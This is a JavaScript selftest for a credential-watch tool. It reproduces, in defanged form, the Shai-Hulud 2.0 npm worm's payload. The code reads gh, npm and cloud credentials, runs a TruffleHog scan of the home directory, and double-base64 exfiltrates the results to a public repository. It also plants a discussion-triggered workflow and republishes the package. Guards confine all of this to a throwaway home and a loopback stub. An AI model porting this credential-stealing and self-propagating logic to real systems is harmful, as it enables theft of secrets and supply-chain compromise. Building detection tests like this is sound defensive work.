// credwatch selftest: Shai-Hulud 2.0's bun_environment.js (24 Nov 2025), defanged. The same kinds
// of acts on the throwaway home `credwatch selftest` made: the CI and sudo probe, the environment,
// `gh auth token`, ~/.npmrc and `npm whoami`, the cloud credentials its SDKs read, a downloaded
// TruffleHog over $HOME, the exfiltration repository "Sha1-Hulud: The Second Coming." with its
// double-base64 files, the `discussion.yaml` workflow in the project, and the worm's `npm publish`.
// Every tool is a stand-in, every request goes to the selftest's loopback stub (GitHub's API and
// the registry alike), and the fallback that shreds the home when no token is found is left out.
const { spawnSync } = require("child_process");
const crypto = require("crypto");
const fs = require("fs");
const http = require("http");
const os = require("os");
const path = require("path");

const home = os.homedir();
// Never anywhere but the selftest's throwaway home: it carries this marker.
if (!fs.existsSync(path.join(home, ".credwatch-selftest")) || !process.env.SELFTEST_STUB) {
  console.error("credwatch selftest: not in a selftest home; doing nothing");
  process.exit(1);
}
const stub = new URL(process.env.SELFTEST_STUB);
const tools = process.env.SELFTEST_TOOLS;
// The stand-ins by their full path, so that a real gh or sudo on PATH is never the one run.
const tool = (name, args) => (spawnSync(path.join(tools, name), args, { encoding: "utf8" }).stdout || "").trim();
// Each file is read by a process of its own: under `watch --enforce` the kernel kills the reader
// of a key, and the rest of the reproduction goes on.
const steal = (file) =>
  spawnSync(process.execPath, ["-e", "process.stdout.write(require('fs').readFileSync(process.argv[1]))", file], {
    encoding: "utf8",
  }).stdout || "";
const request = (method, pathname, body) =>
  new Promise((resolve) => {
    const req = http.request({ host: stub.hostname, port: stub.port, method, path: pathname }, (response) => {
      const chunks = [];
      response.on("data", (chunk) => chunks.push(chunk));
      response.on("end", () => resolve(Buffer.concat(chunks)));
    });
    req.on("error", () => resolve(Buffer.alloc(0)));
    req.end(body);
  });

(async () => {
  // CI runners get the privilege escalation; the real one probed sudo there only.
  const ci = ["GITHUB_ACTIONS", "CODEBUILD_BUILD_NUMBER", "BUILDKITE", "CIRCLE_SHA1"].some((name) => process.env[name]);
  const sudo = tool("sudo", ["-n", "true"]);

  const environment = { ...process.env };
  const github = { token: tool("gh", ["auth", "token"]) };
  const npm = {
    npmrc: steal(path.join(home, ".npmrc")),
    whoami: (spawnSync("npm", ["whoami"], { encoding: "utf8" }).stdout || "").trim(),
  };
  // What the AWS and Google Cloud SDKs read; Azure's came from the environment.
  const cloud = {
    aws: steal(path.join(home, ".aws", "credentials")),
    gcp: steal(path.join(home, ".config", "gcloud", "application_default_credentials.json")),
    azure: Object.fromEntries(Object.entries(process.env).filter(([name]) => name.startsWith("AZURE_"))),
  };

  // TruffleHog, downloaded next to its cache, over the whole home.
  const truffler = path.join(home, ".truffler-cache");
  fs.mkdirSync(truffler, { recursive: true });
  const trufflehog = path.join(truffler, "trufflehog");
  fs.writeFileSync(trufflehog, await request("GET", "/trufflesecurity/trufflehog/releases/download/trufflehog_linux_amd64"), {
    mode: 0o755,
  });
  const scan = spawnSync(trufflehog, ["filesystem", home, "--json"], { encoding: "utf8" }).stdout || "";

  // The exfiltration repository, on the victim's own account.
  const b64 = (text) => Buffer.from(text).toString("base64");
  const twice = (value) => b64(b64(JSON.stringify(value)));
  const name = crypto.randomBytes(9).toString("hex");
  await request("POST", "/user/repos", JSON.stringify({ name, description: "Sha1-Hulud: The Second Coming.", private: false }));
  const files = {
    "contents.json": { github, npm, ci, sudo },
    "environment.json": environment,
    "cloud.json": cloud,
    "truffleSecrets.json": scan,
  };
  for (const [file, value] of Object.entries(files)) {
    await request("PUT", `/repos/selftest/${name}/contents/${file}`, JSON.stringify({ content: twice(value) }));
  }

  // Persistence through the repository: the Discussions workflow that runs a discussion's body on
  // the self-hosted runner SHA1HULUD. Written in the project, as a commit to push would be; the
  // step here only echoes.
  const project = process.env.INIT_CWD;
  const workflows = path.join(project, ".github", "workflows");
  fs.mkdirSync(workflows, { recursive: true });
  fs.writeFileSync(
    path.join(workflows, "discussion.yaml"),
    [
      "# credwatch selftest: the shape of Shai-Hulud 2.0's discussion.yaml; the real step ran",
      "# ${{ github.event.discussion.body }} on the runner SHA1HULUD.",
      "name: Discussion Create",
      "on:",
      "  discussion:",
      "jobs:",
      "  process:",
      "    runs-on: self-hosted",
      "    steps:",
      "      - run: echo credwatch selftest",
      "",
    ].join("\n"),
  );

  // The worm: the package, its version bumped, published again with the stolen token (here to
  // the stub registry).
  const again = path.join(os.tmpdir(), "worm", "package");
  fs.mkdirSync(again, { recursive: true });
  const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));
  manifest.version = "2.0.1";
  fs.writeFileSync(path.join(again, "package.json"), JSON.stringify(manifest, null, 2));
  fs.copyFileSync(path.join(__dirname, "setup_bun.js"), path.join(again, "setup_bun.js"));
  spawnSync("npm", ["publish", again, "--ignore-scripts"], { encoding: "utf8" });
})();
